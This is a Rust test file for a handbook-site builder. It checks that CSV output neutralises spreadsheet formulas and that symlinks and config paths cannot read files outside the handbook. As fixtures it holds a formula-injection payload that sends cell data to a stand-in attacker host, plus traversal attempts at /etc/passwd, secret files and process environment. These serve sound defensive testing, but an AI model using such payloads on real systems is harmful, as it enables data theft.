//! Nothing leaks and nothing runs: files outside the handbook are never
//! read into the site or printed, and text from the handbook cannot become
//! a formula in a spreadsheet.
#![allow(clippy::unwrap_used)] // Tests fail loudly by design.

mod common;

use common::*;

#[test]
fn soa_csv_cells_cannot_run_as_formulas_and_the_file_starts_with_a_bom() {
    let book = fixture("minimal");
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
    edit(book.path(), "content/controls/5.15.md", |t| {
        t.replace(
            "justification: \"Access to customer data must be controlled.\"",
            &format!("justification: '{formula}'"),
        )
    });
    edit(book.path(), "content/roles/ciso.md", |t| {
        t.replacen("title:", "title: \"@SUM(A1:A9)\"\n# was:", 1)
    });
    edit(book.path(), "content/policies/access-control.md", |t| {
        t.replacen("title:", "title: \"-2+3 Café\"\n# was:", 1)
    });
    let site = book.path().join("out");
    let run = build(book.path(), &site);
    assert_eq!(run.code, 0, "{}", run.stderr);

    let raw = std::fs::read(site.join("soa.csv")).unwrap();
    assert!(raw.starts_with(b"\xEF\xBB\xBFControl,"), "UTF-8 BOM first");
    let mut csv = csv::Reader::from_path(site.join("soa.csv")).unwrap();
    assert_eq!(&csv.headers().unwrap()[0], "Control");
    let row = csv
        .records()
        .map(|r| r.unwrap())
        .find(|r| &r[0] == "5.15")
        .unwrap();
    assert_eq!(&row[4], format!("'{formula}"));
    assert_eq!(&row[6], "'@SUM(A1:A9)");
    assert_eq!(&row[7], "'-2+3 Café");
}

#[cfg(unix)]
#[test]
fn check_never_prints_a_line_of_a_file_outside_the_content_folder() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.env"), "API_KEY=hunter2\n").unwrap();
    let book = fixture("minimal");
    let content = book.path().join("content");
    std::os::unix::fs::symlink(outside.path().join("secret.env"), content.join("notes.md"))
        .unwrap();
    std::os::unix::fs::symlink(outside.path().join("secret.env"), content.join("key.txt")).unwrap();
    std::os::unix::fs::symlink("/proc/self/environ", content.join("environ.md")).unwrap();
    std::os::unix::fs::symlink(outside.path(), content.join("shared")).unwrap();

    let run: Run = ismsbook()
        .current_dir(book.path())
        .args(["check", ".", "--today", TODAY])
        .env("ISMSBOOK_TEST_SECRET", "s3cr3t-value")
        .output()
        .unwrap()
        .into();
    let built = build(book.path(), &book.path().join("out"));
    for (command, run) in [("check", &run), ("build", &built)] {
        let all = format!("{}{}", run.stdout, run.stderr);
        assert_eq!(run.code, 1, "{command}: {all}");
        for name in ["notes.md", "key.txt", "environ.md", "shared"] {
            assert!(
                all.contains(&format!("{name}:1:1: error[unreadable-file]")),
                "{command}: {name} not refused:\n{all}"
            );
        }
        assert!(
            !all.contains("hunter2"),
            "{command} printed the secret:\n{all}"
        );
        assert!(
            !all.contains("s3cr3t-value"),
            "{command} printed the environment:\n{all}"
        );
    }
}

#[cfg(unix)]
#[test]
fn paths_in_book_toml_stay_inside_the_handbook_folder() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.env"), "API_KEY=hunter2\n").unwrap();
    let secret = outside.path().join("secret.env");
    let cases: Vec<(String, &str, Option<&str>)> = vec![
        (
            "[output.html]\nadditional-css = [\"/etc/passwd\"]\n".into(),
            "[output.html] additional-css: `/etc/passwd` is outside the handbook folder",
            None,
        ),
        (
            "[output.html]\nadditional-css = [\"../secret.env\"]\n".into(),
            "[output.html] additional-css: `../secret.env` is outside the handbook folder",
            None,
        ),
        (
            "[output.html]\nadditional-css = [\"style/extra.css\"]\n".into(),
            "[output.html] additional-css: `style/extra.css` is outside the handbook folder",
            Some("style/extra.css"),
        ),
        (
            format!("[output.html]\ntheme = \"{}\"\n", outside.path().display()),
            "[output.html] theme: ",
            None,
        ),
        (
            "[build]\nbuild-dir = \"../../site\"\n".into(),
            "[build] build-dir: `../../site` is outside the handbook folder; to build elsewhere, give `ismsbook build -d DIR`",
            None,
        ),
    ];
    for (table, message, link) in cases {
        let book = fixture("minimal");
        if let Some(link) = link {
            let path = book.path().join(link);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::os::unix::fs::symlink(&secret, path).unwrap();
        }
        edit(book.path(), "book.toml", |t| format!("{t}\n{table}"));
        let run: Run = ismsbook()
            .current_dir(book.path())
            .args(["build", ".", "--today", TODAY])
            .output()
            .unwrap()
            .into();
        assert_eq!(run.code, 1, "{table}: {}", run.stderr);
        assert!(
            run.stderr.contains("book.toml:") && run.stderr.contains(message),
            "{table}: expected `{message}` in:\n{}",
            run.stderr
        );
        assert!(!run.stderr.contains("hunter2"), "{}", run.stderr);
        assert!(!book.path().join("book").exists(), "{table}: nothing built");
    }
    // `src` through a symbolic link to a folder elsewhere.
    let book = fixture("minimal");
    let elsewhere = outside.path().join("content");
    std::fs::rename(book.path().join("content"), &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, book.path().join("content")).unwrap();
    let run = build(book.path(), &book.path().join("out"));
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(
        run.stderr
            .contains("[book] src: `content` is outside the handbook folder"),
        "{}",
        run.stderr
    );
}

#[cfg(unix)]
#[test]
fn a_theme_file_linking_out_of_the_theme_is_refused_not_published() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.env"), "API_KEY=hunter2\n").unwrap();
    let book = fixture("minimal");
    let statics = book.path().join("themes/default/static");
    std::fs::create_dir_all(&statics).unwrap();
    std::os::unix::fs::symlink(outside.path().join("secret.env"), statics.join("leak.css"))
        .unwrap();
    std::fs::write(statics.join(".DS_Store"), "junk").unwrap();
    let site = book.path().join("out");
    let run = build(book.path(), &site);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(
        run.stderr.contains("static/leak.css:1:1: error[unreadable-file]: this symbolic link points outside the theme's static folder"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("hunter2"));
    assert!(!site.exists());

    std::fs::remove_file(statics.join("leak.css")).unwrap();
    let run = build(book.path(), &site);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        !site.join("static/.DS_Store").exists(),
        "hidden files stay out"
    );
}

#[test]
fn paths_that_differ_only_by_case_are_an_error_naming_both_files() {
    let book = fixture("minimal");
    write(
        book.path(),
        "content/roles/CISO.md",
        "---\ntitle: Another CISO\n---\nText.\n",
    );
    write(
        book.path(),
        "content/roles/deputy.md",
        "---\ntitle: Deputy\nid: Engineer\n---\nText.\n",
    );
    write(
        book.path(),
        "content/Procedures/Backup.md",
        "---\ntitle: B\n---\n",
    );
    write(
        book.path(),
        "content/procedures/backup.html",
        "<p>asset</p>",
    );
    write(book.path(), "content/INDEX.md", "---\ntitle: Index\n---\n");
    write(book.path(), "content/SOA.md", "---\ntitle: SoA\n---\n");
    let run: Run = ismsbook()
        .current_dir(book.path())
        .args(["check", ".", "--today", TODAY])
        .output()
        .unwrap()
        .into();
    assert_eq!(run.code, 1, "{}", run.stdout);
    for expected in [
        "content/roles/ciso.md:1:1: error[case-collision]: `roles/CISO.md` and `roles/ciso.md` are written to roles/CISO.html and roles/ciso.html, which are one file where case is ignored (Windows, macOS); rename one",
        "content/roles/engineer.md:1:1: error[case-collision]: `roles/deputy.md` and `roles/engineer.md` are written to roles/Engineer.html and roles/engineer.html",
        "content/procedures/backup.md:1:1: error[case-collision]: `Procedures/Backup.md` and `procedures/backup.md` are written to Procedures/Backup.html and procedures/backup.html",
        "content/procedures/backup.html:1:1: error[case-collision]: `Procedures/Backup.md` and `procedures/backup.html` are written to",
        "content/INDEX.md:1:1: error[case-collision]: the home page and `INDEX.md` are written to index.html and INDEX.html",
        "content/SOA.md:1:1: error[reserved-path]: `SOA.html` is generated by ismsbook",
    ] {
        assert!(
            run.stdout.contains(expected),
            "expected `{expected}` in:\n{}",
            run.stdout
        );
    }
}
